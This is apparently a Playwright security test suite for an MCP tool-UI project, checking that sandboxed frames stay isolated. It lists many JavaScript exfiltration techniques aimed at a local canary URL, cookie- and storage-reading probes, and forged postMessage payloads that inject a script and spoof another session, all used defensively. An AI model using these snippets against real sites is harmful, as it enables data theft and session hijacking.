"""Hostile texts and hostile scripts on our pages, in real Chromium (T17, T19, T20, T21, T23, T24).

A page is fenced three times: what others wrote is escaped; the page's own content security policy runs our one script
and loads nothing; and the host's frame has an opaque origin. The tests of scripts (T20 to T24) take the first two
fences for broken already: they run in the frame what an attacker would.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from anyio import fail_after
from playwright.async_api import Browser, expect

from madang.database.port import Row, Transaction
from madang.database.sqlite.database import SqliteDatabase
from madang.records.audit import AUDIT_MIGRATIONS
from madang.services.chart.domain.charts import CHART_TYPES
from tests.browser.embedding import EmbeddingHost, chromium
from tests.browser.serving import APPS, OLD_MCP_UI, ServedMadang, open_served
from tests.security.canary import Canary, listening, markdown, markup

COLOURS: dict[str, Any] = {"prompt": "Which colour?", "type": "select", "options": ["Blue", "Green"]}
SAVES_FILES: dict[str, Any] = {"serverTools": {}, "downloadFile": {}}


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    # Chromium asks before a page reaches this machine. That is its bonus; the fences of ours are tried without it.
    async with chromium("--disable-features=LocalNetworkAccessChecks") as browser:
        yield browser


@pytest.fixture
async def canary() -> AsyncIterator[Canary]:
    async with listening() as canary:
        yield canary


@pytest.fixture(params=(APPS, OLD_MCP_UI), ids=str)
async def madang(request: pytest.FixtureRequest, browser: Browser, tmp_path: Path) -> AsyncIterator[ServedMadang]:
    """In linked views a script puts the texts into the page, in embedded ones the parser reads them: two ways in."""
    async with open_served(browser, tmp_path, request.param) as served:
        yield served


@asynccontextmanager
async def shown(
    madang: ServedMadang, canary: Canary, tool: str, arguments: dict[str, Any], **options: Any
) -> AsyncIterator[EmbeddingHost]:
    """Show a tool's page, with an open way to the canary, and check in the end that nothing took it."""
    result = await madang.call_tool(tool, arguments)
    assert not result["isError"], result
    host = madang.host(lets_through=canary.url, **options)
    async with madang.showing(host, tool=tool, result=result, tool_input=arguments):
        await expect(host.frame.locator("h1")).to_have_count(1)
        yield host
        await host.settle()
        assert await host.view.evaluate("typeof window.__pwned") == "undefined"
        assert (
            await host.view.evaluate(
                "document.querySelectorAll('main :is(a, b, base, iframe, img, image, link, meta, script)').length"
            )
            == 0
        )
        assert (
            await host.view.evaluate(
                "[...document.querySelectorAll('main *')].flatMap((one) => one.getAttributeNames())"
                ".filter((name) => name.startsWith('on') || name === 'href' || name === 'src')"
            )
            == []
        )
        assert host.requests == []
        assert host.page_errors == []
    assert canary.heard == []


Texts = Callable[[Canary], list[str]]


@pytest.mark.parametrize("texts", [markup, markdown], ids=["t17-markup", "t19-markdown"])
async def test_t17_t19_texts_in_every_field_of_a_question_stay_texts(
    madang: ServedMadang, canary: Canary, texts: Texts
) -> None:
    hostile = texts(canary)
    whole = "\n".join(hostile)
    text = {"prompt": whole, "type": "text", "placeholder": " ".join(hostile)[:200]}
    async with shown(madang, canary, "prompt_user", text) as host:
        await expect(host.frame.locator("h1")).to_have_text(whole)
        await expect(host.frame.get_by_role("textbox")).to_have_attribute("placeholder", text["placeholder"])
        await host.frame.get_by_role("textbox").fill(whole)
        await host.frame.get_by_role("button", name="Send").click()
        await expect(host.frame.locator(".answer")).to_have_text(whole)

    for type in ("select", "multiselect"):
        async with shown(madang, canary, "prompt_user", {"prompt": "?", "type": type, "options": hostile}) as host:
            await expect(host.frame.locator("label")).to_have_text(hostile)
            for label in await host.frame.locator("label").all():
                await label.click()
            await host.frame.get_by_role("button", name="Send").click()
            await expect(host.frame.locator(".answer")).to_have_text(hostile if type == "multiselect" else hostile[-1:])


@pytest.mark.parametrize("texts", [markup, markdown], ids=["t17-markup", "t19-markdown"])
async def test_t17_t19_texts_of_waits_playbooks_and_errors_stay_texts(
    madang: ServedMadang, canary: Canary, texts: Texts
) -> None:
    hostile = texts(canary)
    whole = "\n".join(hostile)
    async with shown(madang, canary, "wait_for_user", {"message": whole, "resumeInstruction": whole}) as host:
        await expect(host.frame.locator("h1")).to_have_text(whole)
        await expect(host.frame.locator("p.soft")).to_have_text(whole)
        await host.frame.get_by_role("button", name="Continue").click()
        await expect(host.frame.get_by_text("Continued.")).to_be_visible()

    for goal in hostile:
        await madang.keep(goal=goal, initialCommand=goal, workflow=[{"description": goal}])
    async with shown(madang, canary, "show_playbooks", {}) as host:
        await expect(host.frame.locator("h2")).to_have_text(hostile)
        await host.frame.get_by_role("button", name="Select").first.click()
        await expect(host.frame.get_by_role("status")).to_contain_text("Selected: ")
        # Errors say what came in; the page has words of its own.
        failed = await madang.call_tool("get_prompt", {"messageId": hostile[0]})
        await host.notify("ui/notifications/tool-result", failed)
        await expect(host.frame.get_by_role("status")).to_contain_text("It was not found.")


@pytest.mark.parametrize("type", CHART_TYPES)
async def test_t17_t19_texts_of_a_chart_stay_texts(madang: ServedMadang, canary: Canary, type: str) -> None:
    hostile = [*markup(canary), *markdown(canary)]
    points = [{"label": text, "value": place + 1} for place, text in enumerate(hostile)]
    data: dict[str, Any] = {"data": points}
    if type != "pie":
        data = {"series": [{"name": name, "data": points} for name in hostile[:10]]}
    captions = {"title": hostile[0] + hostile[1][:100], "xLabel": hostile[2], "yLabel": hostile[5]}
    async with shown(
        madang, canary, "visualize_data", {"type": type, **captions, **data}, host_capabilities=SAVES_FILES
    ) as host:
        await expect(host.frame.locator("h1")).to_have_text(captions["title"])
        await host.frame.locator("summary").click()
        await expect(host.frame.locator("tbody th")).to_have_text(hostile)


# Each is tried for itself: one that throws must not save us from the next.
WAYS_OUT = {
    "fetch": "fetch(url, { mode: 'no-cors', credentials: 'include', keepalive: true })",
    "request": "{ const r = new XMLHttpRequest(); r.open('GET', url); r.send() }",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "image": "new Image().src = url",
    "socket": "new WebSocket(url.replace('http', 'ws'))",
    "events": "new EventSource(url)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`])))",
    "module": "import(url)",
    "popup": "open(url)",
    "top": "top.location = url",
    "parent": "parent.location = url",
    "form": "add(`<form action=${url} method=post><input name=x></form>`).submit()",
    "form to a window": "add(`<form action=${url} target=_blank></form>`).submit()",
    "prefetch": "add(`<link rel=prefetch href=${url}>`, document.head)",
    "preload": "add(`<link rel=preload as=image href=${url}>`, document.head)",
    "style": "add(`<link rel=stylesheet href=${url}>`, document.head)",
    "import": "add(`<style>@import '${url}'; body { background: url(${url}) }</style>`)",
    "font": "add(`<style>@font-face { font-family: x; src: url(${url}) }</style><p style='font-family: x'>x</p>`)",
    "frame": "add(`<iframe src=${url}></iframe>`)",
    "object": "add(`<object data=${url}></object>`)",
    "embed": "add(`<embed src=${url}>`)",
    "video": "add(`<video autoplay src=${url} poster=${url}></video>`)",
    "svg": "add(`<svg><image href=${url} /><use href=${url}#x /></svg>`)",
    "script": "{ const s = document.createElement('script'); s.src = url; document.body.append(s) }",
    "speculation": "{ const s = document.createElement('script'); s.type = 'speculationrules';"
    " s.text = JSON.stringify({ prefetch: [{ urls: [url] }] }); document.body.append(s) }",
    "link to the top": "add(`<a href=${url} target=_top>x</a>`).click()",
}
NAVIGATIONS = {
    "location": "location = url",
    "link": "add(`<a href=${url} ping=${url}>x</a>`).click()",
    "refresh": "add(`<meta http-equiv=refresh content='0;url=${url}'>`, document.head)",
}
ADD = (
    "const add = (html, to = document.body) => { to.insertAdjacentHTML('beforeend', html); return to.lastElementChild }"
)


def attempt(code: str) -> str:
    """Return a script that tries something. It is handed over by the debugger, which no policy of the page stops."""
    return f"(url) => {{ {ADD}; try {{ {code} }} catch (error) {{ return `${{error}}` }} }}"


async def nothing_left(host: EmbeddingHost, canary: Canary) -> None:
    """Let the embedding page knock, which may, and check that nobody was there before it."""
    # Not in the frame: it may be gone.
    await host.page.evaluate(
        """async (url) => {
            for (let i = 0; i < 10; i++) await new Promise(requestAnimationFrame);
            await fetch(url, { mode: 'no-cors' });
        }""",
        f"{canary.url}last",
    )
    await canary.knocked("/last")
    assert [said.split("\r")[0] for said in canary.heard] == ["GET /last HTTP/1.1"]


async def test_t20_each_way_leads_to_the_canary_where_there_is_no_fence(browser: Browser, canary: Canary) -> None:
    """Or the tests below would prove nothing."""
    for place, code in enumerate([*WAYS_OUT.values(), *NAVIGATIONS.values()]):
        page = await browser.new_page()
        try:
            with fail_after(60):
                await page.goto(canary.url)
                await page.evaluate(attempt(code), f"{canary.url}out-{place:02}")
                await canary.knocked(f"/out-{place:02}")
        except TimeoutError:
            raise AssertionError(f"{code} does not reach the canary") from None
        finally:
            await page.close()


async def test_t20_a_script_in_our_page_reaches_nothing(browser: Browser, tmp_path: Path, canary: Canary) -> None:
    """Ours: the page's own policy, which loads and sends nothing. The host's: a sandbox without forms, popups and top
    navigation."""
    async with open_served(browser, tmp_path, APPS) as madang, asking(madang, canary) as host:
        for code in WAYS_OUT.values():
            await host.view.evaluate(attempt(code), f"{canary.url}out")
        await nothing_left(host, canary)
        assert host.page.url == "http://host.example/"
        assert host.page.context.pages == [host.page]


@pytest.mark.parametrize("way", NAVIGATIONS)
async def test_t20_the_frame_cannot_be_led_elsewhere(
    browser: Browser, tmp_path: Path, canary: Canary, way: str
) -> None:
    """The host's part alone: no policy of a page stops it from leaving for another address, the `frame-src` of the page
    around it does. Ours is that no text becomes a script, a link or a refresh (T17)."""
    async with open_served(browser, tmp_path, APPS) as madang, asking(madang, canary) as host:
        await host.view.evaluate(attempt(NAVIGATIONS[way]), f"{canary.url}out")
        await nothing_left(host, canary)


@pytest.mark.xfail(reason="No policy of a page stops WebRTC: only the absence of foreign scripts does.", strict=False)
async def test_t20_a_script_cannot_send_packets(browser: Browser, tmp_path: Path, canary: Canary) -> None:
    async with open_served(browser, tmp_path, APPS) as madang, asking(madang, canary) as host:
        await host.view.evaluate(
            """async (server) => {
                    const peer = new RTCPeerConnection({ iceServers: [{ urls: server }] });
                    peer.createDataChannel('x');
                    const done = new Promise((resolve) => {
                        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
                    });
                    await peer.setLocalDescription(await peer.createOffer());
                    }""",
            f"stun:127.0.0.1:{canary.port}",
        )
        await nothing_left(host, canary)


SECRETS = [
    "parent.document.body.innerHTML",
    "top.document.cookie",
    "parent.localStorage.length",
    "parent.madangCallTool",
    "parent.location.href",
    "frameElement.id",
    "document.cookie",
    "localStorage.length",
    "sessionStorage.length",
    "indexedDB.open('x')",
    "caches.keys()",
    "navigator.serviceWorker.register('/x.js')",
]


async def test_t21_the_frame_reads_nothing_of_its_host(browser: Browser, tmp_path: Path, canary: Canary) -> None:
    """The host's part: a sandbox without `allow-same-origin`. Our pages work in it, so no host needs to widen it."""
    async with open_served(browser, tmp_path, APPS) as madang, asking(madang, canary) as host:
        assert await host.view.evaluate("origin") == "null"
        for secret in SECRETS:
            refused = await host.view.evaluate(
                f"(async () => {{ try {{ return ['read', String(await ({secret}))] }}"
                " catch (error) { return ['refused', error.name] } })()"
            )
            assert refused[0] == "refused", (secret, refused)


async def test_t21_the_frame_cannot_call_the_hosts_api_in_the_persons_name(
    browser: Browser, tmp_path: Path, canary: Canary
) -> None:
    async with open_served(browser, tmp_path, APPS) as madang, asking(madang, canary) as host:
        await host.page.evaluate("document.cookie = 'session=secret'")
        for url in ("http://host.example/api", canary.url):
            answer = await host.view.evaluate(
                "url => fetch(url, { credentials: 'include' }).then(() => 'answered', (error) => error.name)", url
            )
            assert answer == "TypeError"
        await nothing_left(host, canary)


async def test_t23_the_frame_cannot_widen_its_own_sandbox(browser: Browser, tmp_path: Path, canary: Canary) -> None:
    """The host's part is to take no such message from a view; ours is that a page takes none for itself either."""
    wider = {
        "html": "<script>window.__pwned = 1</script>",
        "sandbox": "allow-scripts allow-same-origin allow-top-navigation",
        "csp": {"connectDomains": [canary.url]},
    }
    forged = {"jsonrpc": "2.0", "method": "ui/notifications/sandbox-resource-ready", "params": wider}
    async with open_served(browser, tmp_path, APPS) as madang, asking(madang, canary) as host:
        for source in ("parent", "window"):
            await host.view.evaluate(f"message => {source}.postMessage(message, '*')", forged)
        await host.notify("ui/notifications/sandbox-resource-ready", wider)
        await host.view.evaluate("frameElement => { try { window.frameElement.sandbox = '' } catch {} }")
        await host.settle()

        frame = host.page.locator("iframe")
        await expect(frame).to_have_count(1)
        await expect(frame).to_have_attribute("sandbox", "allow-scripts")
        await expect(host.frame.locator("h1")).to_have_text("Which colour?")
        assert await host.view.evaluate("[origin, typeof window.__pwned]") == ["null", "undefined"]


async def test_t24_a_view_calls_nothing_but_what_it_may(browser: Browser, tmp_path: Path, canary: Canary) -> None:
    """The host's part: it lets a view call tools of the view's own server alone, only those with `app` among their
    visibility, and adds whose session it is; a view has no say in that. Ours: what comes through gets no further than
    any other call. There is no tool beyond the assistant's, no argument names a session, another session's question
    is not found, and every try is in the trail."""
    async with open_served(browser, tmp_path, APPS) as madang:
        async with madang.another_door(session="another") as door:
            theirs = (await door.done("prompt_user", **COLOURS)).data["messageId"]
        tries: list[tuple[str, dict[str, Any], str]] = [
            ("other_server__delete_everything", {}, "unknown_tool"),
            ("playbook__no_such_tool", {}, "unknown_tool"),
            ("reply_prompt", {"messageId": theirs, "answer": "Blue"}, "not_found"),
            ("reply_prompt", {"messageId": theirs, "answer": "Blue", "sessionId": "another"}, "invalid_arguments"),
            ("get_prompt", {"messageId": theirs, "_meta": {"madang/sessionId": "another"}}, "invalid_arguments"),
        ]
        async with asking(madang, canary) as host:
            for name, arguments, _ in tries:
                answer = await host.view.evaluate(CALL_AS_VIEW, [name, arguments])
                assert "error" in answer or answer["result"]["isError"], answer
                assert theirs not in str(answer.get("result", {}).get("structuredContent", {}).get("prompt", ""))
        async with madang.another_door(session="another") as door:
            assert (await door.done("get_prompt", messageId=theirs)).data["status"] == "pending"
        person_tools = [await madang.listed_tool(name) for name in ("reply_prompt", "resume_from_wait")]
        assert [tool["_meta"]["ui"]["visibility"] for tool in person_tools] == [["app"], ["app"]]

    trail = await audited(tmp_path)
    for name, _, outcome in tries:
        assert (name, outcome) in trail


CALL_AS_VIEW = """([name, args]) => new Promise((resolve) => {
    addEventListener('message', ({ data }) => data.id === 'forged' && resolve(data));
    const message = { jsonrpc: '2.0', id: 'forged', method: 'tools/call', params: { name, arguments: args } };
    parent.postMessage({ ...message, params: { ...message.params, _meta: { 'madang/sessionId': 'another' } } }, '*');
})"""


async def audited(folder: Path) -> list[tuple[Any, ...]]:
    """Return tool and outcome of every call in the trail."""
    database = SqliteDatabase(folder / "madang.db")

    async def work(tx: Transaction) -> list[Row]:
        return await tx.all("SELECT tool, outcome FROM audit")

    try:
        await database.prepare(AUDIT_MIGRATIONS)
        return [tuple(row) for row in await database.read(work)]
    finally:
        await database.close()


@asynccontextmanager
async def asking(madang: ServedMadang, canary: Canary) -> AsyncIterator[EmbeddingHost]:
    """Show a question in a frame from which there is an open way to the canary."""
    result = await madang.call_tool("prompt_user", COLOURS)
    async with madang.showing(madang.host(lets_through=canary.url), tool="prompt_user", result=result) as host:
        await expect(host.frame.locator("h1")).to_have_text("Which colour?")
        yield host
